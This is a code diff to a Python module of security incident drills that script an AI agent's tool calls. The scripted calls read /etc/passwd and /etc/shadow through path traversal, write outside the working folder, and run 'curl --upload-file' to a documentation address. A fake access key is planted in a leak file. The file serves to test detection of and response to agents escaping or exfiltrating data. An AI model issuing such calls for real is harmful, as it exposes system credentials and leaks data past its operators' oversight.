@@ -16,7 +16,7 @@ from orchestration.domain.severity import Severity
 from orchestration.drills import person
 from orchestration.drills.environment import DrillEnvironment
 from orchestration.drills.expectation import DrillExpectation, DrillOutcome
-from orchestration.drills.faults.fixtures import AGENT_FILES, TOOL_GOAL, TRIGGER, with_files
+from orchestration.drills.faults.fixtures import AGENT_FILES, TOOL_FILES, TOOL_GOAL, TRIGGER, with_files
 from orchestration.drills.model import Drill, DrillWork, Inject
 from orchestration.drills.processes import DrillError
 from orchestration.rehearsal.scenes import scripted_calls
@@ -32,8 +32,6 @@ _WATCHED_SECONDS = 10.0
 _SOON_OVER = {
     "alerting": {"rules": {name: {"window": _WATCHED_SECONDS} for name in ("tool-refused", "sign-ins-failed")}}
 }
-# The alerts stay clear for so long before an incident that no playbook has proved is resolved.
-_STABLE_SECONDS = 30.0
 # The newer folder comes first on the path, as what pip installs for a user does.
 _SITE, _NEW_SITE, _WHEELS, _PACKAGE = "site", "newer-site", "wheels", "drill-package"
 # Random, and in no vendor's form.
@@ -55,6 +53,8 @@ key = "AKIA" + "DR1LL" * 3 + "X"
 print("the key is", key)
 Path("{_LEAK}").write_text("aws_access_key_id = " + key + "\\n")
 """
+# It does not end by itself, so it has to be stopped.
+_GOES_ON = scripted_calls.line("run_command", command=["python3", "tool.py"])
 # Several attempts, because one refused path is a model's slip: an incident needs evidence of intent, such as an
 # escape that is repeated after it was refused.
 _ESCAPE = "\n".join(
@@ -63,15 +63,18 @@ _ESCAPE = "\n".join(
         scripted_calls.line("read_file", path="../../../../etc/passwd"),
         scripted_calls.line("read_file", path="/etc/shadow"),
         scripted_calls.line("write_file", path="../outside.txt", content="x"),
+        _GOES_ON,
     )
 )
-# Harmless even if the guard failed: a folder that does not exist, the discard port, a shell that does nothing.
+# A slip, then evidence of intent. Harmless even if the guard failed: a shell that does nothing, and an address for
+# documentation, which nobody has (RFC 5737).
 _COMMANDS = "\n".join(
     (
         "Do what you are told to do.",
-        scripted_calls.line("run_command", command=["rm", "-rf", "/nothing-of-this-name"]),
-        scripted_calls.line("run_command", command=["curl", "http://127.0.0.1:9/"]),
         scripted_calls.line("run_command", command=["bash", "-c", "true"]),
+        scripted_calls.line("run_command", command=["curl", "http://192.0.2.1/"]),
+        scripted_calls.line("run_command", command=["curl", "--upload-file", "notes.txt", "http://192.0.2.1/"]),
+        _GOES_ON,
     )
 )
 
@@ -84,8 +87,7 @@ _REFUSED = DrillExpectation(
     Severity.P2,
     helped="stop-run",
     duties=(DutyKind.RECOVER_RUN,),
-    lasts=_WATCHED_SECONDS + _ANSWER_SECONDS + _STABLE_SECONDS,
-    deadline=120,
+    lasts=_WATCHED_SECONDS + _ANSWER_SECONDS,
     level=_SECURITY_TEAM,
     offers=("run.cancel",),
     finds=("access",),
@@ -215,16 +217,16 @@ PATH_ESCAPE = Drill(
     _run(_ESCAPE),
     _SCENARIO,
     DrillWork(),
-    with_files({}, **_SOON_OVER),
+    with_files(TOOL_FILES, **_SOON_OVER),
 )
 COMMAND_REFUSED = Drill(
     "command-refused",
-    "An agent runs commands that it may not",
+    "An agent runs commands that it may not, to reach a host outside",
     _REFUSED,
     _run(_COMMANDS),
     _SCENARIO,
     DrillWork(),
-    with_files({}, **_SOON_OVER),
+    with_files(TOOL_FILES, **_SOON_OVER),
 )
 SIGN_INS_GUESSED = Drill(
     "sign-ins-guessed",
@@ -235,8 +237,7 @@ SIGN_INS_GUESSED = Drill(
         Severity.P2,
         helped="watch-closely",
         duties=(DutyKind.CONFIRM_AT_SOURCE,),
-        lasts=_WATCHED_SECONDS + _ANSWER_SECONDS + _STABLE_SECONDS,
-        deadline=120,
+        lasts=_WATCHED_SECONDS + _ANSWER_SECONDS,
         level=_SECURITY_TEAM,
         finds=("access",),
     ),
@@ -258,9 +259,8 @@ SECRET_IN_ARTIFACT = Drill(
         answers=("security.rotate",),
         duties=(DutyKind.ROTATE_CREDENTIAL, DutyKind.CHECK_QUARANTINED_FILE),
         finds=("scope",),
-        lasts=_ANSWER_SECONDS + _STABLE_SECONDS,
+        lasts=_ANSWER_SECONDS,
         mended=True,
-        deadline=120,
     ),
     _expose,
     _SCENARIO,
@@ -303,7 +303,6 @@ VULNERABLE_PACKAGE = Drill(
         # Starting pip, and the whole system, takes a few seconds each.
         lasts=_WATCHED_SECONDS + 2 * _ANSWER_SECONDS,
         mended=True,
-        deadline=120,
     ),
     _publish_advisory,
     _SCENARIO,
